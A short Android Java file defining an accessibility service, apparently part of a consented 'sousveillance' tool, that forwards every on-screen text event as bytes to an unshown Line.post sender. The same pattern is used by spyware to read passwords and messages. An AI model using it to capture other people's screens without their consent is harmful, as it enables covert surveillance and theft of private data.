package org.example.sousveil.send_screen;

import android.accessibilityservice.AccessibilityService;
import android.view.accessibility.AccessibilityEvent;

/** Bound by the system once the person allows it. */
public class Reader extends AccessibilityService {
    @Override
    public void onAccessibilityEvent(AccessibilityEvent event) {
        Line.post(event.getText().toString().getBytes());
    }

    @Override
    public void onInterrupt() {
    }
}
